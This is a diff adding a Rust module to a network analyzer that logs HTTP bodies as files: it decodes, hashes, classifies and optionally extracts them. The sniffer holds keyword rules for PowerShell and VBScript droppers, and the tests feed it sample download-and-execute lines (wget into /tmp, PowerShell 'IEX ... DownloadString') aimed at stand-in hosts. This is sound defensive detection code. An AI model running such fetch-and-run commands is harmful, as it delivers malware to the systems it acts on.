@@ -1,0 +1,1212 @@
+//! HTTP bodies as files (Zeek files.log in spirit) → the `files` table, and `--extract-files`.
+//!
+//! The HTTP analyzer hands each body's de-chunked bytes to a [`FileBody`] as they arrive. The body's
+//! content encoding (gzip, deflate as zlib or raw, br) is undone on the fly; the decoded bytes are
+//! hashed (md5, sha1, sha256), counted, kept up to [`PREFIX`] bytes for MIME sniffing (the `infer`
+//! crate, plus text rules for the scripts droppers serve), histogrammed over the first
+//! [`ENTROPY_SPAN`] bytes for entropy, walked for ZIP entry names (macro-enabled Office documents,
+//! archives carrying executables), searched for an OLE VBA project, and optionally written to disk.
+//! No body is ever held whole in memory.
+//!
+//! Bounds (every byte is attacker-controlled): decoders are counted process-wide
+//! ([`MAX_INFLATERS`] gzip/deflate, [`MAX_BROTLI`] brotli: a brotli window can be 16 MiB); a body
+//! past the limit is hashed as sent and `decoded` says so. Decoding stops at [`DECODED_CAP`] bytes
+//! or [`DECODED_RATIO`] times the encoded size (a decompression bomb): the row is then cut with
+//! `decode_cap`. Extraction keeps at most [`MAX_OPEN_EXTRACTS`] files open at once and writes at
+//! most the configured cap per file.
+
+use super::{ConnCtx, escape_bytes};
+use crate::capture::hex;
+use crate::record::{FileRecord, Record, RecordSink};
+use sha1::Digest;
+use std::io::Write;
+use std::path::PathBuf;
+use std::sync::Arc;
+use std::sync::atomic::{AtomicUsize, Ordering};
+
+/// Decoded bytes kept for MIME sniffing and script rules.
+pub const PREFIX: usize = 8 * 1024;
+/// Decoded bytes the entropy is computed over.
+pub const ENTROPY_SPAN: u64 = 64 * 1024;
+/// gzip/deflate decoders alive at once, process-wide (~45 KiB each).
+pub const MAX_INFLATERS: usize = 4096;
+/// brotli decoders alive at once, process-wide (a window of up to 16 MiB each).
+pub const MAX_BROTLI: usize = 16;
+/// Decoded bytes per body at most, and at most this many times the encoded bytes.
+pub const DECODED_CAP: u64 = 1 << 30;
+pub const DECODED_RATIO: u64 = 1024;
+/// Extraction files open at once.
+pub const MAX_OPEN_EXTRACTS: usize = 256;
+/// ZIP entry names kept per body.
+const MAX_ENTRIES: usize = 32;
+
+static INFLATERS: AtomicUsize = AtomicUsize::new(0);
+static BROTLIS: AtomicUsize = AtomicUsize::new(0);
+static OPEN_EXTRACTS: AtomicUsize = AtomicUsize::new(0);
+
+/// A slot in a process-wide counter, released on drop.
+struct Slot(&'static AtomicUsize);
+
+impl Slot {
+    fn take(c: &'static AtomicUsize, max: usize) -> Option<Slot> {
+        c.fetch_update(Ordering::SeqCst, Ordering::SeqCst, |n| {
+            (n < max).then_some(n + 1)
+        })
+        .ok()
+        .map(|_| Slot(c))
+    }
+}
+
+impl Drop for Slot {
+    fn drop(&mut self) {
+        self.0.fetch_sub(1, Ordering::SeqCst);
+    }
+}
+
+/// `--extract-files DIR`: where bodies go and how much of each.
+#[derive(Debug, Clone)]
+pub struct Extract {
+    pub dir: PathBuf,
+    /// Bytes written per file at most (the row's hashes still cover the whole body).
+    pub max_bytes: u64,
+}
+
+/// What the HTTP head said about a body.
+#[derive(Debug, Default, Clone)]
+pub struct BodyMeta {
+    pub ts: i64,
+    pub depth: u32,
+    /// Sent by the client (a request body: an upload).
+    pub is_orig: bool,
+    pub declared_type: Option<String>,
+    pub filename: Option<String>,
+    pub content_encoding: Option<String>,
+    pub total_bytes: Option<u64>,
+}
+
+// the `Slot` fields are held for their Drop (the decoder's process-wide slot), never read
+#[allow(dead_code)]
+enum Decoder {
+    Identity(Sink),
+    /// `deflate` is zlib-wrapped by the RFC and raw by many servers: decided on the first 2 bytes.
+    DeflateUndecided(Sink, Vec<u8>, Slot),
+    Gzip(flate2::write::GzDecoder<Sink>, Slot),
+    Zlib(flate2::write::ZlibDecoder<Sink>, Slot),
+    Raw(flate2::write::DeflateDecoder<Sink>, Slot),
+    Brotli(Box<brotli_decompressor::DecompressorWriter<Sink>>, Slot),
+    /// Decoding failed or hit its cap: the sink kept what came before.
+    Broken(Sink),
+    Taken,
+}
+
+impl Decoder {
+    /// Feed a live decoder (its sink's decoded-size cap raised to `cap` first).
+    fn write_capped(&mut self, b: &[u8], cap: u64) -> std::io::Result<()> {
+        macro_rules! capped {
+            ($d:expr) => {{
+                $d.get_mut().cap = cap;
+                $d.write_all(b)
+            }};
+        }
+        match self {
+            Decoder::Gzip(d, _) => capped!(d),
+            Decoder::Zlib(d, _) => capped!(d),
+            Decoder::Raw(d, _) => capped!(d),
+            Decoder::Brotli(d, _) => capped!(d),
+            _ => Ok(()),
+        }
+    }
+}
+
+/// One body being read.
+pub struct FileBody {
+    meta: BodyMeta,
+    fuid: String,
+    dec: Decoder,
+    /// Content encoding undone: None when none was declared (or identity).
+    decoded: Option<bool>,
+    wire_bytes: u64,
+    missing_bytes: u64,
+    cut: Option<&'static str>,
+}
+
+/// The decoded stream's consumer: hashes, counts, sniffing state, extraction.
+struct Sink {
+    md5: md5::Md5,
+    sha1: sha1::Sha1,
+    sha256: sha2::Sha256,
+    seen: u64,
+    cap: u64,
+    capped: bool,
+    prefix: Vec<u8>,
+    hist: Box<[u32; 256]>,
+    walk_decided: bool,
+    zip: Option<ZipWalk>,
+    ole_vba: Option<(bool, Vec<u8>)>,
+    extract: Option<ExtractFile>,
+}
+
+struct ExtractFile {
+    tmp: PathBuf,
+    dir: PathBuf,
+    file: std::io::BufWriter<std::fs::File>,
+    left: u64,
+    truncated: bool,
+    failed: bool,
+    _slot: Slot,
+}
+
+impl Write for Sink {
+    fn write(&mut self, b: &[u8]) -> std::io::Result<usize> {
+        let room = self.cap.saturating_sub(self.seen);
+        if b.is_empty() {
+            return Ok(0);
+        }
+        if self.capped || room == 0 {
+            self.capped = true;
+            return Err(std::io::Error::other("decoded size cap"));
+        }
+        let n = (b.len() as u64).min(room) as usize;
+        self.feed(b.get(..n).unwrap_or_default());
+        Ok(n)
+    }
+    fn flush(&mut self) -> std::io::Result<()> {
+        Ok(())
+    }
+}
+
+const OLE_MAGIC: &[u8] = &[0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1];
+/// "_VBA_PROJECT" in UTF-16LE, the stream name of a VBA project inside an OLE compound file.
+const VBA_UTF16: &[u8] = b"_\0V\0B\0A\0_\0P\0R\0O\0J\0E\0C\0T\0";
+
+impl Sink {
+    fn new(extract: Option<ExtractFile>) -> Sink {
+        Sink {
+            md5: md5::Md5::new(),
+            sha1: sha1::Sha1::new(),
+            sha256: sha2::Sha256::new(),
+            seen: 0,
+            cap: u64::MAX,
+            capped: false,
+            prefix: Vec::new(),
+            hist: Box::new([0; 256]),
+            walk_decided: false,
+            zip: None,
+            ole_vba: None,
+            extract,
+        }
+    }
+
+    fn feed(&mut self, b: &[u8]) {
+        if b.is_empty() {
+            return;
+        }
+        let start = self.seen;
+        self.md5.update(b);
+        self.sha1.update(b);
+        self.sha256.update(b);
+        if start < ENTROPY_SPAN {
+            let n = (ENTROPY_SPAN - start).min(b.len() as u64) as usize;
+            for &c in b.iter().take(n) {
+                if let Some(h) = self.hist.get_mut(c as usize) {
+                    *h += 1;
+                }
+            }
+        }
+        let mut rest = b;
+        if self.prefix.len() < PREFIX {
+            let n = (PREFIX - self.prefix.len()).min(b.len());
+            self.prefix
+                .extend_from_slice(b.get(..n).unwrap_or_default());
+            rest = b.get(n..).unwrap_or_default();
+        }
+        if !self.walk_decided && self.prefix.len() >= OLE_MAGIC.len() {
+            // the walkers start once the magic is known, on everything seen so far
+            self.walk_decided = true;
+            if self.prefix.starts_with(b"PK\x03\x04") {
+                self.zip = Some(ZipWalk::default());
+            }
+            if self.prefix.starts_with(OLE_MAGIC) {
+                self.ole_vba = Some((false, Vec::new()));
+            }
+            let seen = std::mem::take(&mut self.prefix);
+            self.walk(&seen);
+            self.prefix = seen;
+            self.walk(rest);
+        } else if self.walk_decided {
+            self.walk(b);
+        }
+        if let Some(x) = self.extract.as_mut()
+            && !x.failed
+            && !x.truncated
+        {
+            let n = x.left.min(b.len() as u64) as usize;
+            if x.file.write_all(b.get(..n).unwrap_or_default()).is_err() {
+                x.failed = true;
+            }
+            x.left -= n as u64;
+            if n < b.len() {
+                x.truncated = true;
+            }
+        }
+        self.seen += b.len() as u64;
+    }
+
+    fn walk(&mut self, b: &[u8]) {
+        if let Some(z) = self.zip.as_mut() {
+            z.feed(b);
+        }
+        if let Some((found, carry)) = self.ole_vba.as_mut()
+            && !*found
+        {
+            carry.extend_from_slice(b);
+            if memchr::memmem::find(carry, VBA_UTF16).is_some() {
+                *found = true;
+                carry.clear();
+            } else {
+                let keep = VBA_UTF16.len() - 1;
+                if carry.len() > keep {
+                    carry.drain(..carry.len() - keep);
+                }
+            }
+        }
+    }
+
+    fn entropy(&self) -> Option<f64> {
+        let total: u64 = self.hist.iter().map(|&c| c as u64).sum();
+        if total == 0 {
+            return None;
+        }
+        let t = total as f64;
+        Some(
+            self.hist
+                .iter()
+                .filter(|&&c| c > 0)
+                .map(|&c| {
+                    let p = c as f64 / t;
+                    -p * p.log2()
+                })
+                .sum::<f64>()
+                + 0.0, // -0.0 (one symbol) reads as 0
+        )
+    }
+}
+
+/// Walks a ZIP's local file headers as the bytes stream by, collecting entry names (the central
+/// directory at the end is not needed). Stops at the first header it cannot skip (a streamed entry
+/// with its size in a trailing data descriptor) or at the central directory.
+#[derive(Default)]
+struct ZipWalk {
+    state: ZipState,
+    head: Vec<u8>,
+    names: Vec<String>,
+    entries: u64,
+    done: bool,
+    /// Extra field and data bytes after the current entry's name.
+    pending_skip: u64,
+}
+
+#[derive(Default, Clone, Copy)]
+enum ZipState {
+    #[default]
+    Header,
+    Name(usize, usize),
+    Skip(u64),
+}
+
+impl ZipWalk {
+    fn feed(&mut self, mut b: &[u8]) {
+        while !b.is_empty() && !self.done {
+            match self.state {
+                ZipState::Header => {
+                    let need = 30 - self.head.len();
+                    let n = need.min(b.len());
+                    self.head.extend_from_slice(b.get(..n).unwrap_or_default());
+                    b = b.get(n..).unwrap_or_default();
+                    if self.head.len() < 30 {
+                        return;
+                    }
+                    let h = std::mem::take(&mut self.head);
+                    let u16at = |i: usize| crate::bytes::le16(&h, i).map_or(0, usize::from);
+                    let u32at = |i: usize| crate::bytes::le32(&h, i).unwrap_or(0);
+                    if !h.starts_with(b"PK\x03\x04") {
+                        self.done = true;
+                        return;
+                    }
+                    let flags = u16at(6);
+                    let csize = u32at(18) as u64;
+                    // a streamed entry (size in a trailing descriptor): its name is read, the
+                    // walk ends after it
+                    let streamed = flags & 8 != 0 && csize == 0;
+                    self.entries += 1;
+                    self.head.clear();
+                    // name, then extra field + data skipped together
+                    let name_len = u16at(26);
+                    let skip = if streamed {
+                        u64::MAX
+                    } else {
+                        u16at(28) as u64 + csize
+                    };
+                    self.state = ZipState::Name(name_len, 0);
+                    self.pending_skip = skip;
+                }
+                ZipState::Name(len, got) => {
+                    let n = (len - got).min(b.len());
+                    if self.head.len() < 256 {
+                        let k = n.min(256 - self.head.len());
+                        self.head.extend_from_slice(b.get(..k).unwrap_or_default());
+                    }
+                    b = b.get(n..).unwrap_or_default();
+                    if got + n < len {
+                        self.state = ZipState::Name(len, got + n);
+                        return;
+                    }
+                    let name = std::mem::take(&mut self.head);
+                    if self.names.len() < MAX_ENTRIES {
+                        self.names.push(escape_bytes(&name));
+                    }
+                    self.state = ZipState::Skip(self.pending_skip);
+                    if self.pending_skip == u64::MAX {
+                        self.done = true;
+                    }
+                }
+                ZipState::Skip(left) => {
+                    let n = left.min(b.len() as u64) as usize;
+                    b = b.get(n..).unwrap_or_default();
+                    self.state = if left == n as u64 {
+                        ZipState::Header
+                    } else {
+                        ZipState::Skip(left - n as u64)
+                    };
+                }
+            }
+        }
+    }
+}
+
+/// Deterministic file id: "F" + 17 base62 characters from the connection uid, the transaction and
+/// the direction (same input, same fuids).
+pub fn make_fuid(uid: &str, depth: u32, is_orig: bool) -> String {
+    let d = sha1::Sha1::new()
+        .chain_update(uid.as_bytes())
+        .chain_update(depth.to_le_bytes())
+        .chain_update([is_orig as u8])
+        .finalize();
+    let v = d
+        .iter()
+        .take(16)
+        .fold(0u128, |acc, &b| (acc << 8) | b as u128);
+    crate::flow::base62_id('F', v)
+}
+
+/// The file name a head gives a body: Content-Disposition's `filename*=` or `filename=`, else the
+/// URI path's last segment (none when the path ends in `/`). Escaped text, never a path to open.
+pub fn body_filename(disposition: Option<&[u8]>, uri: Option<&str>) -> Option<String> {
+    if let Some(d) = disposition {
+        let text = String::from_utf8_lossy(d);
+        let mut plain = None;
+        for part in text.split(';') {
+            let part = part.trim();
+            let Some((k, v)) = part.split_once('=') else {
+                continue;
+            };
+            let k = k.trim().to_ascii_lowercase();
+            let v = v.trim().trim_matches('"');
+            if k == "filename*" {
+                // RFC 5987: charset'lang'percent-encoded
+                let enc = v.rsplit('\'').next().unwrap_or(v);
+                let name = percent_decode(enc);
+                if !name.is_empty() {
+                    return Some(escape_bytes(&name));
+                }
+            } else if k == "filename" && !v.is_empty() {
+                plain = Some(escape_bytes(v.as_bytes()));
+            }
+        }
+        if plain.is_some() {
+            return plain;
+        }
+    }
+    let uri = uri?;
+    let path = uri.split(['?', '#']).next().unwrap_or("");
+    // absolute-form targets (proxies): drop the scheme and authority
+    let path = match path.find("://") {
+        Some(i) => path
+            .get(i + 3..)
+            .and_then(|r| r.find('/').and_then(|j| r.get(j..)))
+            .unwrap_or(""),
+        None => path,
+    };
+    let last = path.rsplit('/').next().unwrap_or("");
+    (!last.is_empty()).then(|| escape_bytes(&percent_decode(last)))
+}
+
+fn percent_decode(s: &str) -> Vec<u8> {
+    let b = s.as_bytes();
+    let mut out = Vec::with_capacity(b.len());
+    let mut i = 0;
+    while let Some(&c) = b.get(i) {
+        if c == b'%'
+            && let Some(h) = b.get(i + 1..i + 3)
+            && let Ok(h) = std::str::from_utf8(h)
+            && let Ok(v) = u8::from_str_radix(h, 16)
+        {
+            out.push(v);
+            i += 3;
+            continue;
+        }
+        out.push(c);
+        i += 1;
+    }
+    out
+}
+
+/// What a body is, for the detectors: a coarse class and a MIME type.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct Sniffed {
+    pub mime: Option<String>,
+    pub class: &'static str,
+}
+
+/// Extensions that run when opened (Windows and scripts), checked on archive entries and names.
+const RUNNABLE_EXT: &[&str] = &[
+    "exe", "dll", "scr", "com", "pif", "cpl", "msi", "sys", "js", "jse", "vbs", "vbe", "wsf",
+    "wsh", "hta", "ps1", "psm1", "bat", "cmd", "lnk", "jar", "elf", "sh", "apk", "app", "iso",
+    "img",
+];
+
+fn runnable_name(name: &str) -> bool {
+    name.rsplit_once('.').is_some_and(|(_, e)| {
+        let e = e.to_ascii_lowercase();
+        RUNNABLE_EXT.contains(&e.as_str())
+    })
+}
+
+/// Classify a body from its first bytes (and, for ZIP and OLE, what the walkers saw).
+fn sniff(prefix: &[u8], zip_names: &[String], ole_vba: bool) -> Sniffed {
+    let t = infer::get(prefix);
+    let mime = t.map(|t| t.mime_type().to_string());
+    let m = mime.as_deref().unwrap_or("");
+    let class = match m {
+        "application/vnd.microsoft.portable-executable"
+        | "application/x-executable"
+        | "application/x-mach-binary"
+        | "application/x-msdownload"
+        | "application/vnd.android.dex"
+        | "application/vnd.android.dey"
+        | "application/wasm" => "executable",
+        "application/java-archive" | "application/x-java-applet" | "application/java" => "java",
+        "application/x-shockwave-flash" => "flash",
+        "text/x-shellscript" => "script",
+        _ if ole_vba => "office_macro",
+        _ if zip_names.iter().any(|n| {
+            let l = n.to_ascii_lowercase();
+            l.ends_with("vbaproject.bin") || l.ends_with(".bin") && l.contains("vba")
+        }) =>
+        {
+            "office_macro"
+        }
+        _ if zip_names
+            .iter()
+            .any(|n| n.eq_ignore_ascii_case("META-INF/MANIFEST.MF"))
+            && zip_names.iter().any(|n| n.ends_with(".class")) =>
+        {
+            "java"
+        }
+        _ if zip_names.iter().any(|n| runnable_name(n)) => "archive_executable",
+        "application/zip"
+        | "application/vnd.rar"
+        | "application/x-7z-compressed"
+        | "application/gzip"
+        | "application/x-bzip2"
+        | "application/x-xz"
+        | "application/x-tar"
+        | "application/vnd.ms-cab-compressed"
+        | "application/zstd" => "archive",
+        "application/x-ole-storage"
+        | "application/msword"
+        | "application/vnd.ms-excel"
+        | "application/vnd.ms-powerpoint"
+        | "application/rtf"
+        | "application/pdf" => "document",
+        // DER: OCSP responses, CRLs and certificates that CryptoAPI and browsers fetch over HTTP
+        "application/x-x509-ca-cert" => "certificate",
+        m if m.starts_with("application/vnd.openxmlformats")
+            || m.starts_with("application/vnd.oasis") =>
+        {
+            "document"
+        }
+        m if m.starts_with("image/") || m.starts_with("audio/") || m.starts_with("video/") => {
+            "media"
+        }
+        m if m.starts_with("font/") || m.starts_with("application/font") => "media",
+        _ => "",
+    };
+    if !class.is_empty() {
+        return Sniffed { mime, class };
+    }
+    // text: the scripts droppers serve, then markup and plain text
+    let text = prefix
+        .iter()
+        .take(PREFIX)
+        .all(|&c| c >= 0x20 || c == b'\n' || c == b'\r' || c == b'\t' || c == 0x0c || c >= 0x80);
+    if !text || prefix.is_empty() {
+        return Sniffed {
+            mime,
+            class: if prefix.is_empty() {
+                "empty"
+            } else {
+                "unknown"
+            },
+        };
+    }
+    let low = String::from_utf8_lossy(prefix).to_ascii_lowercase();
+    let has = |s: &str| low.contains(s);
+    let markup = has("<html") || has("<!doctype") || has("<head") || has("<body");
+    let (script, smime) = if has("<hta:application") {
+        (true, "application/hta")
+    } else if has("invoke-expression")
+        || has("frombase64string(")
+        || has("downloadstring(")
+        || has("net.webclient")
+        || (has("powershell") && (has(" -enc") || has(" -e ") || has("hidden")))
+    {
+        (true, "text/x-powershell")
+    } else if !markup && (has("wscript.shell") || has("createobject(") || has("activexobject(")) {
+        if has("activexobject(") || has("var ") || has("function") {
+            (true, "application/x-jscript")
+        } else {
+            (true, "text/vbscript")
+        }
+    } else if low.trim_start().starts_with("@echo off") {
+        (true, "application/x-bat")
+    } else {
+        (false, "")
+    };
+    if script {
+        return Sniffed {
+            mime: Some(smime.to_string()),
+            class: "script",
+        };
+    }
+    let (m, class) = if markup {
+        ("text/html", "html")
+    } else if low.trim_start().starts_with("<?xml") || low.trim_start().starts_with("<svg") {
+        ("text/xml", "text")
+    } else if low.trim_start().starts_with('{') || low.trim_start().starts_with('[') {
+        ("application/json", "text")
+    } else {
+        ("text/plain", "text")
+    };
+    Sniffed {
+        mime: mime.or(Some(m.to_string())),
+        class,
+    }
+}
+
+impl FileBody {
+    /// A body starts. `extract`: where to write it, if extraction is on.
+    pub fn new(meta: BodyMeta, ctx: &ConnCtx, extract: Option<&Arc<Extract>>) -> FileBody {
+        let fuid = make_fuid(&ctx.uid, meta.depth, meta.is_orig);
+        let ext = extract.and_then(|x| open_extract(x, &fuid));
+        let sink = Sink::new(ext);
+        let enc = meta
+            .content_encoding
+            .as_deref()
+            .map(|e| e.trim().to_ascii_lowercase())
+            .filter(|e| !e.is_empty() && e != "identity");
+        let (dec, decoded) = match enc.as_deref() {
+            None => (Decoder::Identity(sink), None),
+            Some("gzip" | "x-gzip") => match Slot::take(&INFLATERS, MAX_INFLATERS) {
+                Some(s) => (
+                    Decoder::Gzip(flate2::write::GzDecoder::new(sink), s),
+                    Some(true),
+                ),
+                None => (Decoder::Identity(sink), Some(false)),
+            },
+            Some("deflate") => match Slot::take(&INFLATERS, MAX_INFLATERS) {
+                Some(s) => (Decoder::DeflateUndecided(sink, Vec::new(), s), Some(true)),
+                None => (Decoder::Identity(sink), Some(false)),
+            },
+            Some("br") => match Slot::take(&BROTLIS, MAX_BROTLI) {
+                Some(s) => (
+                    Decoder::Brotli(
+                        Box::new(brotli_decompressor::DecompressorWriter::new(sink, 4096)),
+                        s,
+                    ),
+                    Some(true),
+                ),
+                None => (Decoder::Identity(sink), Some(false)),
+            },
+            Some(_) => (Decoder::Identity(sink), Some(false)),
+        };
+        FileBody {
+            meta,
+            fuid,
+            dec,
+            decoded,
+            wire_bytes: 0,
+            missing_bytes: 0,
+            cut: None,
+        }
+    }
+
+    pub fn fuid(&self) -> &str {
+        &self.fuid
+    }
+
+    /// Body bytes as sent (after de-chunking).
+    pub fn write(&mut self, b: &[u8]) {
+        if b.is_empty() {
+            return;
+        }
+        self.wire_bytes += b.len() as u64;
+        if self.cut.is_some_and(|c| c != "gap") {
+            return;
+        }
+        let cap = DECODED_CAP.min(self.wire_bytes.saturating_mul(DECODED_RATIO).max(1 << 20));
+        let res = match &mut self.dec {
+            Decoder::Identity(s) => s.write_all(b),
+            Decoder::DeflateUndecided(_, head, _) => {
+                head.extend_from_slice(b);
+                if head.len() < 2 {
+                    return;
+                }
+                let Decoder::DeflateUndecided(sink, head, slot) =
+                    std::mem::replace(&mut self.dec, Decoder::Taken)
+                else {
+                    return;
+                };
+                let zlib = matches!(head.as_slice(), [a, b, ..] if a & 0x0f == 8 && (u16::from(*a) << 8 | u16::from(*b)) % 31 == 0);
+                let mut sink = sink;
+                sink.cap = cap;
+                if zlib {
+                    let mut d = flate2::write::ZlibDecoder::new(sink);
+                    let r = d.write_all(&head);
+                    self.dec = Decoder::Zlib(d, slot);
+                    r
+                } else {
+                    let mut d = flate2::write::DeflateDecoder::new(sink);
+                    let r = d.write_all(&head);
+                    self.dec = Decoder::Raw(d, slot);
+                    r
+                }
+            }
+            d
+            @ (Decoder::Gzip(..) | Decoder::Zlib(..) | Decoder::Raw(..) | Decoder::Brotli(..)) => {
+                d.write_capped(b, cap)
+            }
+            Decoder::Broken(_) | Decoder::Taken => Ok(()),
+        };
+        if res.is_err() {
+            self.break_decoder();
+        }
+    }
+
+    /// Decoding failed: keep the sink, say why.
+    fn break_decoder(&mut self) {
+        let dec = std::mem::replace(&mut self.dec, Decoder::Taken);
+        let sink = match dec {
+            Decoder::Identity(s) | Decoder::Broken(s) | Decoder::DeflateUndecided(s, _, _) => s,
+            Decoder::Gzip(d, _) => d.into_inner_sink(),
+            Decoder::Zlib(d, _) => d.into_inner_sink(),
+            Decoder::Raw(d, _) => d.into_inner_sink(),
+            Decoder::Brotli(d, _) => match d.into_inner() {
+                Ok(s) | Err(s) => s,
+            },
+            Decoder::Taken => return,
+        };
+        self.cut = Some(if sink.capped {
+            "decode_cap"
+        } else {
+            "decode_error"
+        });
+        self.dec = Decoder::Broken(sink);
+    }
+
+    /// `len` body bytes will never be seen.
+    pub fn gap(&mut self, len: u64) {
+        self.missing_bytes += len;
+        if self.cut.is_none() {
+            self.cut = Some("gap");
+        }
+    }
+
+    /// The body ended (`complete`: its framing said so; else the capture or the connection ended
+    /// first). Writes the `files` row.
+    pub fn finish(mut self, complete: bool, ctx: &ConnCtx, swap: bool, out: &mut dyn RecordSink) {
+        // flush the decoder: a truncated stream is a decode error only when the body was whole
+        let dec = std::mem::replace(&mut self.dec, Decoder::Taken);
+        let (sink, ok) = match dec {
+            Decoder::Identity(s) | Decoder::Broken(s) => (s, true),
+            // fewer than 2 bytes: nothing decodable
+            Decoder::DeflateUndecided(s, head, _) => (s, head.is_empty()),
+            Decoder::Gzip(mut d, _) => {
+                let ok = d.try_finish().is_ok();
+                (d.into_inner_sink(), ok)
+            }
+            Decoder::Zlib(mut d, _) => {
+                let ok = d.try_finish().is_ok();
+                (d.into_inner_sink(), ok)
+            }
+            Decoder::Raw(mut d, _) => {
+                let ok = d.try_finish().is_ok();
+                (d.into_inner_sink(), ok)
+            }
+            Decoder::Brotli(mut d, _) => {
+                let closed = d.close().is_ok();
+                match d.into_inner() {
+                    Ok(s) => (s, closed),
+                    Err(s) => (s, false),
+                }
+            }
+            Decoder::Taken => return,
+        };
+        if !complete && self.cut.is_none() {
+            self.cut = Some("end_of_capture");
+        }
+        if !ok && self.cut.is_none() {
+            self.cut = Some(if sink.capped {
+                "decode_cap"
+            } else {
+                "decode_error"
+            });
+        }
+        if let Some(c) = self.cut
+            && c == "decode_cap"
+        {
+            out.weird(
+                self.meta.ts,
+                Some(&ctx.uid),
+                "http_decompression_cap",
+                &format!(
+                    "{} body {} decoded past {} bytes from {} sent; decoding stopped",
+                    if self.meta.is_orig {
+                        "request"
+                    } else {
+                        "response"
+                    },
+                    self.fuid,
+                    sink.seen,
+                    self.wire_bytes
+                ),
+                None,
+            );
+        }
+        self.emit(sink, ctx, swap, out);
+    }
+
+    fn emit(self, mut sink: Sink, ctx: &ConnCtx, swap: bool, out: &mut dyn RecordSink) {
+        let whole = self.cut.is_none();
+        let names = sink
+            .zip
+            .as_ref()
+            .map(|z| z.names.clone())
+            .unwrap_or_default();
+        let vba = sink.ole_vba.as_ref().is_some_and(|(f, _)| *f);
+        let sn = sniff(&sink.prefix, &names, vba);
+        let entropy = sink.entropy();
+        let (md5, sha1, sha256) = (
+            hex(&std::mem::take(&mut sink.md5).finalize()),
+            hex(&std::mem::take(&mut sink.sha1).finalize()),
+            hex(&std::mem::take(&mut sink.sha256).finalize()),
+        );
+        let extracted = sink
+            .extract
+            .take()
+            .and_then(|x| x.close(&self.fuid, whole.then_some(sha256.as_str())));
+        let ((oh, op), (rh, rp)) = if swap {
+            ((ctx.resp_h, ctx.resp_p), (ctx.orig_h, ctx.orig_p))
+        } else {
+            ((ctx.orig_h, ctx.orig_p), (ctx.resp_h, ctx.resp_p))
+        };
+        out.record(Record::File(FileRecord {
+            ts: self.meta.ts,
+            uid: &ctx.uid,
+            fuid: &self.fuid,
+            orig_h: oh,
+            orig_p: op,
+            resp_h: rh,
+            resp_p: rp,
+            trans_depth: self.meta.depth,
+            is_orig: self.meta.is_orig,
+            declared_type: self.meta.declared_type.as_deref(),
+            mime_type: sn.mime.as_deref(),
+            file_class: sn.class,
+            filename: self.meta.filename.as_deref(),
+            content_encoding: self.meta.content_encoding.as_deref(),
+            decoded: self.decoded,
+            seen_bytes: sink.seen,
+            wire_bytes: self.wire_bytes,
+            total_bytes: self.meta.total_bytes,
+            missing_bytes: self.missing_bytes,
+            complete: whole,
+            cut_reason: self.cut,
+            md5: whole.then_some(md5.as_str()),
+            sha1: whole.then_some(sha1.as_str()),
+            sha256: whole.then_some(sha256.as_str()),
+            entropy,
+            archive_entries: &names,
+            extracted: extracted.as_deref(),
+            source: &ctx.source,
+        }));
+    }
+}
+
+/// flate2's write decoders give their writer back only through `finish` (which flushes, and may
+/// fail); a broken stream is abandoned with what the sink already holds.
+trait IntoSink {
+    fn into_inner_sink(self) -> Sink;
+}
+
+macro_rules! into_sink {
+    ($t:ty) => {
+        impl IntoSink for $t {
+            fn into_inner_sink(mut self) -> Sink {
+                std::mem::replace(self.get_mut(), Sink::new(None))
+            }
+        }
+    };
+}
+into_sink!(flate2::write::GzDecoder<Sink>);
+into_sink!(flate2::write::ZlibDecoder<Sink>);
+into_sink!(flate2::write::DeflateDecoder<Sink>);
+
+fn open_extract(x: &Arc<Extract>, fuid: &str) -> Option<ExtractFile> {
+    let slot = Slot::take(&OPEN_EXTRACTS, MAX_OPEN_EXTRACTS)?;
+    let tmp = x.dir.join(format!(".part-{fuid}"));
+    let mut o = std::fs::OpenOptions::new();
+    o.write(true).create(true).truncate(true);
+    #[cfg(unix)]
+    {
+        use std::os::unix::fs::OpenOptionsExt;
+        // what a capture carried is never made executable
+        o.mode(0o600);
+    }
+    let file = o.open(&tmp).ok()?;
+    Some(ExtractFile {
+        tmp,
+        dir: x.dir.clone(),
+        file: std::io::BufWriter::new(file),
+        left: x.max_bytes,
+        truncated: false,
+        failed: false,
+        _slot: slot,
+    })
+}
+
+impl ExtractFile {
+    /// Close and name the file: `FUID-SHA256` when whole and within the cap, else `FUID-partial`.
+    /// Returns the name (relative to the extraction directory).
+    fn close(mut self, fuid: &str, sha256: Option<&str>) -> Option<String> {
+        if self.failed || self.file.flush().is_err() {
+            let _ = std::fs::remove_file(&self.tmp);
+            return None;
+        }
+        let name = match sha256 {
+            Some(h) if !self.truncated => format!("{fuid}-{h}"),
+            _ => format!("{fuid}-partial"),
+        };
+        match std::fs::rename(&self.tmp, self.dir.join(&name)) {
+            Ok(()) => Some(name),
+            Err(_) => {
+                let _ = std::fs::remove_file(&self.tmp);
+                None
+            }
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn filenames_from_disposition_then_uri() {
+        assert_eq!(
+            body_filename(Some(b"attachment; filename=\"inv oice.exe\""), Some("/x")),
+            Some("inv oice.exe".into())
+        );
+        assert_eq!(
+            body_filename(
+                Some(b"attachment; filename=\"a.txt\"; filename*=UTF-8''r%C3%A9sum%C3%A9.doc"),
+                None
+            ),
+            Some("résumé.doc".into())
+        );
+        assert_eq!(
+            body_filename(None, Some("/dl/setup%20x.exe?id=1")),
+            Some("setup x.exe".into())
+        );
+        assert_eq!(body_filename(None, Some("/dir/")), None);
+        assert_eq!(
+            body_filename(None, Some("http://h.example/a/b.js")),
+            Some("b.js".into())
+        );
+        // control bytes from the wire are escaped, path separators are just text
+        assert_eq!(
+            body_filename(Some(b"inline; filename=\"..\\\\x\x1b.exe\""), None),
+            Some("..\\\\\\\\x\\x1b.exe".into())
+        );
+    }
+
+    #[test]
+    fn sniffing_classes() {
+        assert_eq!(
+            sniff(b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff", &[], false).class,
+            "executable"
+        );
+        let mut elf = b"\x7fELF\x02\x01\x01".to_vec();
+        elf.resize(64, 0);
+        assert_eq!(sniff(&elf, &[], false).class, "executable");
+        assert_eq!(
+            sniff(b"#!/bin/sh\ncd /tmp; wget http://x/y", &[], false).class,
+            "script"
+        );
+        let ps = sniff(
+            b"$c=New-Object Net.WebClient;IEX $c.DownloadString('http://x')",
+            &[],
+            false,
+        );
+        assert_eq!(
+            (ps.class, ps.mime.as_deref()),
+            ("script", Some("text/x-powershell"))
+        );
+        assert_eq!(
